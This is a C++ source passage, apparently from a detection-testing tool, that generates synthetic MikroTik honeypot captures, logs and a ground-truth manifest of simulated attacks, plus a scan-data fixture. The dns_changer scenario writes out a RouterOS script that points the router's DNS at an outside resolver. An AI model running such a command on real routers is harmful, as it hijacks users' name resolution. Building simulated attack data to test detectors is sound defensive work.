  const Micros lt = login(p, chain_slot(p, day) + rng_.between(0, 10) * kMicrosPerSecond, ip, "winbox", "miner_inject");
  const Micros st = lt + rng_.between(15, 60) * kMicrosPerSecond;
  log(p, st, "system,info", "new script scheduled by " + std::string(kActor) + ": " + body);
  expect(AttackCategory::ScriptScheduled, p, ip, st, st, "miner_inject");
  expect(AttackCategory::MinerInjection, p, ip, st, st, "miner_inject");
}

void Generator::dns_changer(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 ip = fresh_attacker();
  const Micros lt = login(p, chain_slot(p, day) + rng_.between(0, 10) * kMicrosPerSecond, ip, "winbox", "dns_changer");
  const Micros script_ts = lt + rng_.between(10, 40) * kMicrosPerSecond;
  const bool scripted = rng_.chance(0.75);
  if (scripted) {
    const Ipv4 resolver(203, 0, 113, static_cast<std::uint8_t>(rng_.between(1, 254)));
    log(p, script_ts, "system,info",
        "new script scheduled by " + std::string(kActor) + ": /ip dns set servers=" + resolver.to_string() +
            " allow-remote-requests=yes; /ip dns cache flush");
    expect(AttackCategory::ScriptScheduled, p, ip, script_ts, script_ts, "dns_changer");
  }
  const Micros dt = script_ts + rng_.between(5, 30) * kMicrosPerSecond;
  log(p, dt, "system,info", "DNS changed by " + std::string(kActor));
  expect(AttackCategory::DnsChanger, p, ip, scripted ? script_ts : dt, dt, "dns_changer");
}

void Generator::campaign_static_port(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const Ipv4 ip = fresh_attacker();
  const auto sport = static_cast<std::uint16_t>(rng_.between(1024, 65535));
  Micros t = at(day, 0, 86400 - 3200);
  for (int i = 0; i < 500; ++i) {
    TcpSession probe(p, rng_, ip, sport, p.address, kStaticCampaignPorts[i % 12], t);
    probe.syn();
    probe.finish();
    t += 6 * kMicrosPerSecond;
  }
}

void Generator::campaign_api_sweep(std::size_t s, std::int64_t day) {
  const Ipv4 ip = fresh_attacker();
  Micros t = at(day, 0, 86400 - 3000);
  const int flows = 120;
  std::set<int> probes;
  while (probes.size() < 3) probes.insert(static_cast<int>(rng_.below(flows)));
  for (int i = 0; i < flows; ++i) {
    Partition& p = parts_[(s + static_cast<std::size_t>(i)) % parts_.size()];
    TcpSession f(p, rng_, ip, src_port(ip), p.address, 8728, t);
    if (probes.contains(i)) {
      f.handshake();
      f.client_send("\x06/login\x00"sv);
      f.server_send("\x05!done\x25=ret=0123456789abcdef0123456789abcdef\x00"sv);
      f.close();
      f.finish();
      expect(AttackCategory::OtherSignature, p, ip, f.first(), f.last(), "campaign_api_sweep", "gen-api-login-probe",
             "API");
    } else {
      f.syn();
      f.finish();
    }
    t += 20 * kMicrosPerSecond;
  }
}

void Generator::noise(std::size_t s, std::int64_t day) {
  Partition& p = parts_[s];
  const std::size_t n = cfg_.log_noise_per_day;
  if (n == 0) return;
  const Micros step = kMicrosPerDay / static_cast<Micros>(n);
  for (std::size_t i = 0; i < n; ++i) {
    const Micros ts = day_base(day) + static_cast<Micros>(i) * step + rng_.between(0, step - 1);
    const auto& line = kNoiseLines[rng_.below(kNoiseLines.size())];
    const auto sp = line.find(' ');
    log(p, ts, line.substr(0, sp), line.substr(sp + 1));
  }
  manifest_.noise_lines += n;
}

void Generator::plan_bruteforce_sources(
    const std::map<std::pair<std::size_t, std::int64_t>, std::vector<std::size_t>>& counts) {
  std::size_t ns = 0;
  std::size_t nt = 0;
  const auto idx_ssh = static_cast<std::size_t>(
      std::find(kScenarioNames.begin(), kScenarioNames.end(), "bruteforce_ssh") - kScenarioNames.begin());
  const auto idx_tel = static_cast<std::size_t>(
      std::find(kScenarioNames.begin(), kScenarioNames.end(), "bruteforce_telnet") - kScenarioNames.begin());
  for (const auto& [key, per] : counts) {
    ns += per[idx_ssh];
    nt += per[idx_tel];
  }
  for (std::size_t i = 0; i < ns; ++i) ssh_sources_.push_back(fresh_attacker());
  for (std::size_t i = 0; i < nt; ++i) telnet_sources_.push_back(fresh_attacker());
  if (cfg_.bruteforce_overlap && ns + nt > 0) {
    const double j = *cfg_.bruteforce_overlap;
    auto k = static_cast<std::size_t>(std::llround(j * static_cast<double>(ns + nt) / (1.0 + j)));
    k = std::min({k, ns, nt});
    for (std::size_t i = 0; i < k; ++i) telnet_sources_[i] = ssh_sources_[i];
  }
}

void Generator::flush_day(std::int64_t day, const FileSink& sink) {
  const std::string date = format_date(day);
  for (auto& p : parts_) {
    std::stable_sort(p.packets.begin(), p.packets.end(),
                     [](const PacketRecord& a, const PacketRecord& b) { return a.ts < b.ts; });
    CaptureWriter w;
    for (const auto& pkt : p.packets) w.add(pkt);
    CorpusFile cf;
    cf.path = "captures/" + p.sensor + "/" + date + ".pcap";
    cf.sensor_id = p.sensor;
    cf.packets = p.packets.size();
    cf.flows = p.flows.size();
    sink(cf.path, w.bytes());
    manifest_.captures.push_back(cf);
    manifest_.packet_count += p.packets.size();

    std::stable_sort(p.logs.begin(), p.logs.end(),
                     [](const LogLine& a, const LogLine& b) { return std::tie(a.ts, a.seq) < std::tie(b.ts, b.seq); });
    std::map<int, std::string> hours;
    std::map<int, std::uint64_t> hour_lines;
    for (const auto& l : p.logs) {
      const int hour = static_cast<int>((l.ts - day * kMicrosPerDay) / kMicrosPerHour);
      hours[hour] += format_datetime(l.ts) + " " + l.text + "\n";
      ++hour_lines[hour];
    }
    for (const auto& [hour, text] : hours) {
      CorpusFile lf;
      lf.path = "logs/" + p.sensor + "/" + date + "-" + (hour < 10 ? "0" : "") + std::to_string(hour) + ".log";
      lf.sensor_id = p.sensor;
      lf.lines = hour_lines[hour];
      sink(lf.path, {reinterpret_cast<const std::uint8_t*>(text.data()), text.size()});
      manifest_.logs.push_back(lf);
      manifest_.log_lines += lf.lines;
    }
    all_flows_.insert(all_flows_.end(), std::make_move_iterator(p.flows.begin()),
                      std::make_move_iterator(p.flows.end()));
    p.packets.clear();
    p.packets.shrink_to_fit();
    p.logs.clear();
    p.flows.clear();
    p.chain_slots.clear();
    p.tunnel_slots.clear();
  }
}

void Generator::finalize() {
  GroundTruthManifest& m = manifest_;
  m.flow_count = all_flows_.size();
  std::set<std::uint32_t> ssh;
  std::set<std::uint32_t> telnet;
  struct Source {
    std::uint64_t flows = 0;
    std::map<std::int64_t, std::uint64_t> per_day;
    std::map<std::uint16_t, std::uint64_t> sports;
    std::map<std::uint16_t, std::set<std::uint16_t>> dports_by_sport;
    std::map<std::uint16_t, std::uint64_t> dport_flows;
    std::map<std::uint16_t, std::set<std::string>> dport_sensors;
    std::set<std::uint16_t> dports;
    std::set<std::string> sensors;
  };
  std::map<Ipv4, Source> sources;
  for (const auto& f : all_flows_) {
    ++m.flow_states[std::string(to_string(f.state))];
    if (f.syn && f.dport == 22) {
      ssh.insert(f.src.value);
      ++m.bruteforce_attempts["SSH"];
    }
    if (f.syn && f.dport == 23) {
      telnet.insert(f.src.value);
      ++m.bruteforce_attempts["TELNET"];
    }
    Source& s = sources[f.src];
    ++s.flows;
    ++s.per_day[day_index(f.first)];
    ++s.sports[f.sport];
    s.dports_by_sport[f.sport].insert(f.dport);
    ++s.dport_flows[f.dport];
    s.dport_sensors[f.dport].insert(f.sensor);
    s.dports.insert(f.dport);
    s.sensors.insert(f.sensor);
  }
  std::vector<std::uint32_t> both;
  std::set_intersection(ssh.begin(), ssh.end(), telnet.begin(), telnet.end(), std::back_inserter(both));
  m.ssh_ips = ssh.size();
  m.telnet_ips = telnet.size();
  m.both_ips = both.size();
  const std::size_t uni = ssh.size() + telnet.size() - both.size();
  m.ip_overlap = uni ? static_cast<double>(both.size()) / static_cast<double>(uni) : 0.0;

  const CampaignParams params;
  std::vector<std::uint64_t> day_counts;
  for (const auto& [ip, s] : sources) {
    for (const auto& [d, c] : s.per_day) day_counts.push_back(c);
  }
  double sum = 0.0;
  double sum_sq = 0.0;
  for (auto c : day_counts) {
    sum += static_cast<double>(c);
    sum_sq += static_cast<double>(c) * static_cast<double>(c);
  }
  const auto n = static_cast<double>(day_counts.size());
  const double mean = day_counts.empty() ? 0.0 : sum / n;
  const double var = day_counts.empty() ? 0.0 : std::max(0.0, sum_sq / n - mean * mean);
  const double limit = mean + params.volume_sigma * std::sqrt(var);
  for (const auto& [ip, s] : sources) {
    if (s.flows < params.min_flows) continue;
    ExpectedCampaign c;
    c.src_ip = ip;
    c.flow_count = s.flows;
    c.targeted_ports = s.dports;
    c.sensors_hit = s.sensors;
    bool hit = false;
    for (const auto& [port, n] : s.sports) {
      if (n >= params.min_flows && static_cast<double>(n) >= params.static_port_frac * static_cast<double>(s.flows) &&
          s.dports_by_sport.at(port).size() >= 3) {
        c.trigger = CampaignTrigger::StaticSrcPort;
        c.static_src_port = port;
        hit = true;
        break;
      }
    }
    if (!hit) {
      for (const auto& [port, n] : s.dport_flows) {
        if (n >= params.min_flows && s.dport_sensors.at(port).size() >= 3) {
          c.trigger = CampaignTrigger::ServiceSweep;
          hit = true;
          break;
        }
      }
    }
    if (!hit) {
      for (const auto& [d, n] : s.per_day) {
        if (static_cast<double>(n) > limit) {
          c.trigger = CampaignTrigger::VolumeOutlier;
          hit = true;
          break;
        }
      }
    }
    if (hit) m.campaigns.push_back(std::move(c));
  }
  std::sort(m.campaigns.begin(), m.campaigns.end(), [](const ExpectedCampaign& a, const ExpectedCampaign& b) {
    if (a.flow_count != b.flow_count) return a.flow_count > b.flow_count;
    return a.src_ip < b.src_ip;
  });
  std::sort(m.events.begin(), m.events.end());
}

GroundTruthManifest Generator::run(const FileSink& sink) {
  cfg_.validate();
  manifest_.config = cfg_;
  static const std::array<Scenario, 14> kScenarios = {
      &Generator::benign_web,      &Generator::cve_traversal,   &Generator::login_winbox,
      &Generator::login_ftp,       &Generator::bruteforce_ssh,  &Generator::bruteforce_telnet,
      &Generator::mirai_scan,      &Generator::pptp_tunnel,     &Generator::sstp_tunnel_log,
      &Generator::script_fetch,    &Generator::miner_inject,    &Generator::dns_changer,
      &Generator::campaign_static_port, &Generator::campaign_api_sweep,
  };
  std::vector<double> weights;
  for (auto name : kScenarioNames) {
    auto it = mix_.find(std::string(name));
    weights.push_back(it == mix_.end() ? 0.0 : it->second);
  }
  std::map<std::pair<std::size_t, std::int64_t>, std::vector<std::size_t>> counts;
  for (int d = 0; d < cfg_.duration_days; ++d) {
    for (std::size_t s = 0; s < cfg_.sensors.size(); ++s) {
      auto& per = counts[{s, cfg_.start_day + d}];
      for (double w : weights) {
        const double whole = std::floor(w);
        per.push_back(static_cast<std::size_t>(whole) + (rng_.chance(w - whole) ? 1 : 0));
      }
    }
  }
  plan_bruteforce_sources(counts);

  for (std::size_t s = 0; s < cfg_.sensors.size(); ++s) {
    Partition p;
    p.sensor = cfg_.sensors[s];
    p.address = sensor_address(s);
    parts_.push_back(std::move(p));
  }
  for (int d = 0; d < cfg_.duration_days; ++d) {
    const std::int64_t day = cfg_.start_day + d;
    for (std::size_t s = 0; s < cfg_.sensors.size(); ++s) {
      const auto& per = counts.at({s, day});
      for (std::size_t k = 0; k < kScenarios.size(); ++k) {
        for (std::size_t i = 0; i < per[k]; ++i) (this->*kScenarios[k])(s, day);
      }
      noise(s, day);
    }
    flush_day(day, sink);
  }
  finalize();
  return std::move(manifest_);
}

json event_json(const ExpectedEvent& e) {
  json j;
  j["category"] = to_string(e.category);
  j["sensor"] = e.sensor_id;
  j["src_ip"] = e.src_ip.to_string();
  j["ts_start"] = e.ts_start;
  j["ts_end"] = e.ts_end;
  if (e.signature_id) j["signature_id"] = *e.signature_id;
  if (e.service) j["service"] = *e.service;
  j["scenario"] = e.scenario;
  return j;
}

}  // namespace

std::string GroundTruthManifest::to_json() const {
  json j;
  j["schema_version"] = kSchemaVersion;
  j["config"] = json::parse(config.to_json());
  j["packet_count"] = packet_count;
  j["flow_count"] = flow_count;
  j["flow_states"] = flow_states;
  j["log_lines"] = log_lines;
  j["noise_lines"] = noise_lines;
  j["events"] = json::array();
  for (const auto& e : events) j["events"].push_back(event_json(e));
  std::map<std::string, std::uint64_t> per_category;
  for (const auto& e : events) ++per_category[std::string(to_string(e.category))];
  j["event_counts"] = per_category;
  j["campaigns"] = json::array();
  for (const auto& c : campaigns) {
    json cj;
    cj["src_ip"] = c.src_ip.to_string();
    cj["trigger"] = to_string(c.trigger);
    cj["flow_count"] = c.flow_count;
    cj["targeted_ports"] = c.targeted_ports;
    cj["sensors_hit"] = c.sensors_hit;
    if (c.static_src_port) cj["static_src_port"] = *c.static_src_port;
    j["campaigns"].push_back(cj);
  }
  j["bruteforce"] = {{"attempts", bruteforce_attempts},
                     {"ssh_ips", ssh_ips},
                     {"telnet_ips", telnet_ips},
                     {"both_ips", both_ips},
                     {"ip_overlap", ip_overlap}};
  auto files = [](const std::vector<CorpusFile>& list, bool capture) {
    json arr = json::array();
    for (const auto& f : list) {
      json fj = {{"path", f.path}, {"sensor", f.sensor_id}};
      if (capture) {
        fj["packets"] = f.packets;
        fj["flows"] = f.flows;
      } else {
        fj["lines"] = f.lines;
      }
      arr.push_back(fj);
    }
    return arr;
  };
  j["captures"] = files(captures, true);
  j["logs"] = files(logs, false);
  return j.dump(2) + "\n";
}

GroundTruthManifest generate(const ScenarioConfig& config, const FileSink& sink) {
  Generator g(config);
  return g.run(sink);
}

GenerateResult generate_corpus(const ScenarioConfig& config, const std::filesystem::path& out_dir) {
  config.validate();
  std::uint64_t h = 0xcbf29ce484222325ULL;
  auto absorb = [&](const std::string& path, std::span<const std::uint8_t> bytes) {
    h = fnv1a64(path, h);
    h = fnv1a64(std::string_view(reinterpret_cast<const char*>(bytes.data()), bytes.size()), h);
  };
  GenerateResult r;
  r.manifest = generate(config, [&](const std::string& path, std::span<const std::uint8_t> bytes) {
    write_binary_file(out_dir / path, bytes);
    absorb(path, bytes);
  });
  const std::string attribution = synthetic_attribution_csv();
  write_text_file(out_dir / "attribution.csv", attribution);
  absorb("attribution.csv", {reinterpret_cast<const std::uint8_t*>(attribution.data()), attribution.size()});
  const std::string manifest = r.manifest.to_json();
  r.manifest_path = out_dir / "manifest.json";
  write_text_file(r.manifest_path, manifest);
  absorb("manifest.json", {reinterpret_cast<const std::uint8_t*>(manifest.data()), manifest.size()});
  r.checksum = hex64(h);
  return r;
}

InMemoryCorpus generate_in_memory(const ScenarioConfig& config) {
  InMemoryCorpus c;
  c.manifest = generate(config, [&](const std::string& path, std::span<const std::uint8_t> bytes) {
    c.files[path].assign(bytes.begin(), bytes.end());
  });
  return c;
}

std::string synthetic_attribution_csv() {
  return "cidr,country,asn,as_name\n"
         "198.18.0.0/17,CHN,AS64496,Example Transit East\n"
         "198.18.128.0/17,USA,AS64497,Example Hosting West\n"
         "198.19.0.0/17,BRA,AS64498,Example Broadband South\n"
         "198.19.128.0/17,RUS,AS64499,Example Bulletproof North\n"
         "100.64.0.0/10,USA,AS64500,Example Eyeball Access\n"
         "192.0.2.0/24,USA,AS64501,Example VPN Exit\n"
         "192.0.2.0/28,RUS,AS64502,Example Tunnel Farm\n"
         "192.0.2.16/29,CHN,AS64503,Example Cloud Relay\n"
         "198.51.100.0/24,NLD,AS64504,Example Honeynet\n"
         "203.0.113.0/24,SGP,AS64505,Example Resolver Net\n";
}

// ---------------------------------------------------------------------------
// Landscape fixture

namespace {

struct CountRow {
  std::string_view key;
  std::uint64_t count;
};

constexpr CountRow kTopPorts[] = {
    {"2000", 3769843}, {"1723", 1265191}, {"80", 410289}, {"21", 311952}, {"23", 164330},
    {"8080", 139277},  {"161", 91453},    {"8888", 41233}, {"81", 36292},  {"22", 28705},
};
constexpr std::string_view kOtherPorts[] = {"443", "8291", "8728", "8729", "139", "445", "2323", "5060", "7547"};
constexpr std::uint64_t kOtherPortRecords = 225855;

constexpr CountRow kTopCountries[] = {
    {"BRA", 759770}, {"CHN", 715325}, {"USA", 272470}, {"RUS", 260553}, {"IDN", 239598},
    {"ITA", 207229}, {"IRN", 197756}, {"IND", 153757}, {"THA", 137036}, {"ZAF", 134124},
};
constexpr std::uint64_t kOtherCountryIps = 1665326;
constexpr int kOtherCountries = 13;
constexpr int kFixtureDays = 30;
constexpr std::string_view kConflictCountry = "ZZZ";

struct FixtureLayout {
  std::vector<std::pair<std::uint16_t, std::uint64_t>> port_runs;  // ascending port
  std::vector<std::pair<std::string, std::uint64_t>> country_runs;
  std::uint64_t n_ips = 0;
  std::uint64_t n_records = 0;
};

FixtureLayout layout_of(const LandscapeFixture& fx) {
  FixtureLayout l;
  for (const auto& r : fx.ports) l.port_runs.emplace_back(static_cast<std::uint16_t>(std::stoul(r.key)), r.count);
  std::sort(l.port_runs.begin(), l.port_runs.end());
  for (const auto& r : fx.countries) l.country_runs.emplace_back(r.key, r.count);
  l.n_ips = fx.distinct_ips;
  l.n_records = fx.distinct_records;
  return l;
}

std::int64_t slot_day(std::uint64_t seed, std::uint64_t slot) {
  return static_cast<std::int64_t>(Rng::mix(seed ^ (slot * 0x9E3779B97F4A7C15ULL)) % kFixtureDays);
}

bool is_conflict_ip(std::uint64_t i) { return i % 1000 == 7; }

/// Walks runs in step with a monotonically increasing index.
template <typename Key>
class RunCursor {
 public:
  explicit RunCursor(const std::vector<std::pair<Key, std::uint64_t>>& runs) : runs_(runs) {}
  const Key& at(std::uint64_t idx) {
    while (idx >= end_) {
      begin_ = end_;
      ++run_;
      end_ = begin_ + runs_[run_ - 1].second;
    }
    return runs_[run_ - 1].first;
  }

 private:
  const std::vector<std::pair<Key, std::uint64_t>>& runs_;
  std::size_t run_ = 0;
  std::uint64_t begin_ = 0;
  std::uint64_t end_ = 0;
};

Ipv4 fixture_ip(std::uint64_t i) { return Ipv4(0xF0000000u + static_cast<std::uint32_t>(i)); }

}  // namespace

LandscapeFixture landscape_fixture(std::uint64_t scale) {
  if (scale == 0) throw std::invalid_argument("scale must be >= 1");
  LandscapeFixture fx;
  fx.first_day = days_from_civil({2019, 6, 1});
  for (const auto& r : kTopPorts) fx.ports.push_back({std::string(r.key), r.count / scale});
  for (auto p : kOtherPorts) fx.ports.push_back({std::string(p), kOtherPortRecords / 9 / scale});
  for (const auto& r : kTopCountries) fx.countries.push_back({std::string(r.key), r.count / scale});
  for (int i = 0; i < kOtherCountries; ++i) {
    std::string code = "XA";
    code.push_back(static_cast<char>('A' + i));
    fx.countries.push_back({code, kOtherCountryIps / kOtherCountries / scale});
  }
  std::erase_if(fx.ports, [](const auto& r) { return r.count == 0; });
  std::erase_if(fx.countries, [](const auto& r) { return r.count == 0; });
  for (const auto& r : fx.ports) fx.distinct_records += r.count;
  for (const auto& r : fx.countries) fx.distinct_ips += r.count;
  if (fx.distinct_records < fx.distinct_ips || fx.distinct_records > 2 * fx.distinct_ips) {
    throw std::invalid_argument("fixture scale leaves records and addresses inconsistent");
  }
  for (const auto& r : fx.ports) {
    if (r.count > fx.distinct_ips) throw std::invalid_argument("fixture port run exceeds address count");
  }
  fx.new_records.assign(kFixtureDays, 0);
  fx.new_ips.assign(kFixtureDays, 0);
  const std::uint64_t n = fx.distinct_ips;
  for (std::uint64_t k = 0; k < fx.distinct_records; ++k) ++fx.new_records[static_cast<std::size_t>(slot_day(0, k))];
  for (std::uint64_t i = 0; i < n; ++i) {
    std::int64_t d = slot_day(0, i);
    if (i + n < fx.distinct_records) d = std::min(d, slot_day(0, i + n));
    ++fx.new_ips[static_cast<std::size_t>(d)];
    if (is_conflict_ip(i)) ++fx.conflicts;
  }
  return fx;
}

void emit_landscape_fixture(
    const LandscapeFixture& fx, std::uint64_t seed,
    const std::function<void(std::int64_t, Ipv4, std::uint16_t, std::string_view)>& emit) {
  const FixtureLayout l = layout_of(fx);
  const std::uint64_t n = l.n_ips;
  RunCursor<std::uint16_t> ports(l.port_runs);
  RunCursor<std::string> countries(l.country_runs);
  RunCursor<std::uint16_t> ports_hi(l.port_runs);
  // Every IP owns slot i and, while slots remain, slot i + n.
  for (std::uint64_t i = 0; i < n; ++i) {
    const Ipv4 ip = fixture_ip(i);
    const std::string& country = countries.at(i);
    const std::uint16_t port_lo = ports.at(i);
    auto one = [&](std::uint64_t slot, std::uint16_t port) {
      const std::int64_t d = slot_day(0, slot);
      emit(fx.first_day + d, ip, port, country);
      const std::uint64_t r = Rng::mix(seed ^ slot);
      if (r % 3 == 0) {
        const std::int64_t later = d + static_cast<std::int64_t>((r >> 8) % static_cast<std::uint64_t>(kFixtureDays - d));
        emit(fx.first_day + later, ip, port, (r >> 20) & 1 ? std::string_view(country) : std::string_view{});
      }
    };
    one(i, port_lo);
    if (i + n < l.n_records) one(i + n, ports_hi.at(i + n));
    if (is_conflict_ip(i)) emit(fx.first_day + kFixtureDays - 1, ip, port_lo, kConflictCountry);
  }
}

void write_landscape_fixture(const LandscapeFixture& fx, std::uint64_t seed, const std::filesystem::path& dir) {
  std::filesystem::create_directories(dir);
  std::vector<std::ofstream> files;
  for (int d = 0; d < kFixtureDays; ++d) {
    files.emplace_back(dir / ("scan-" + format_date(fx.first_day + d) + ".json"), std::ios::binary);
    if (!files.back()) throw std::runtime_error("cannot write fixture in " + dir.string());
  }
  static const std::map<std::uint16_t, std::string_view> kBanners = {
      {2000, "MikroTik bandwidth-test server"}, {1723, "MikroTik PPTP"}, {21, "220 MikroTik FTP server (MikroTik 6.44) ready"},
      {23, "MikroTik v6.43 Login:"},            {22, "SSH-2.0-ROSSSH"}, {161, "MikroTik RouterOS CHR"},
  };
  emit_landscape_fixture(fx, seed, [&](std::int64_t day, Ipv4 ip, std::uint16_t port, std::string_view country) {
    json j;
    j["timestamp"] = format_date(day) + "T" + (ip.value % 2 ? "03:14:15.926535" : "12:00:00.000000");
    j["ip_str"] = ip.to_string();
    j["port"] = port;
    auto b = kBanners.find(port);
    if (b != kBanners.end()) {
      j["data"] = b->second;
      j["product"] = "MikroTik RouterOS";
    } else {
      j["data"] = "HTTP/1.1 200 OK\r\nServer: httpd\r\n";
      j["product"] = "MikroTik router config page";
    }
    if (!country.empty()) j["location"] = {{"country_code3", country}};
    j["asn"] = "AS" + std::to_string(64496 + ip.value % 16);
    auto& out = files[static_cast<std::size_t>(day - fx.first_day)];
    out << j.dump() << '\n';
    if (Rng::mix(seed ^ ip.value ^ port) % 4 == 0) {
      json other;
      other["timestamp"] = format_date(day) + "T06:00:00";
      other["ip_str"] = Ipv4(0x0A000000u | (ip.value & 0xFFFFFF)).to_string();
      other["port"] = 443;
      other["data"] = "HTTP/1.1 301 Moved\r\nServer: nginx\r\n";
      out << other.dump() << '\n';
    }
  });
}

}  // namespace tiktriage
